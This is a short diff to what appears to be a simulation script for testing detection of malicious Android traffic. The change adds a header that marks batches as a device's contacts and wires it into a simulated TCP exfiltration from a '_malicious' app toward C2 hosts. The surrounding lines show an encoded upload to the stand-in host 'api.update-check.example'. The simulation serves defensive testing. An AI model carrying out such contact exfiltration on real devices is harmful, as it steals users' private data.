@@ -32,6 +32,8 @@ SERVER_ADDRESSES = [DNS, WWW, CDN, PHOTOS, MUSIC, STORE, CHAT, C2, C2B]
 #: keeps their connect events further apart than Android's logging jitter (which
 #: the join rightly refuses to guess through).
 APP_GAP_S = 2.0
+#: What a collecting app serialises in front of every batch (the same on each one).
+BATCH_HEADER = b'{"v":2,"device":"3c286d000b02","kind":"contacts","batch":['
 SERVICES = [
     Service("dns", DNS, 53),
     Service("https", WWW, 443, {"hostnames": ["www.example.org"]}),
@@ -144,7 +146,7 @@ def _malicious(s: Any, server_pub: bytes) -> None:
         alias = f"{pkg.split('.')[-1]}_key"
         s.key_generated("phone-b", pkg, alias)
         s.run("phone-b", apps.exfil_tcp, s.ctx("phone-b", pkg), host, port=port, sizes=[1200, 800, 1600, 1000],
-              mode=mode, interval=0.05, key_alias=None)
+              mode=mode, interval=0.05, key_alias=None, header=BATCH_HEADER)
     for pkg, enc in (("com.fitness.hybrid", "raw"), ("com.quiz.hybridjson", "json_b64")):
         time.sleep(APP_GAP_S)
         s.run("phone-b", apps.hybrid_upload, s.ctx("phone-b", pkg), "api.update-check.example",
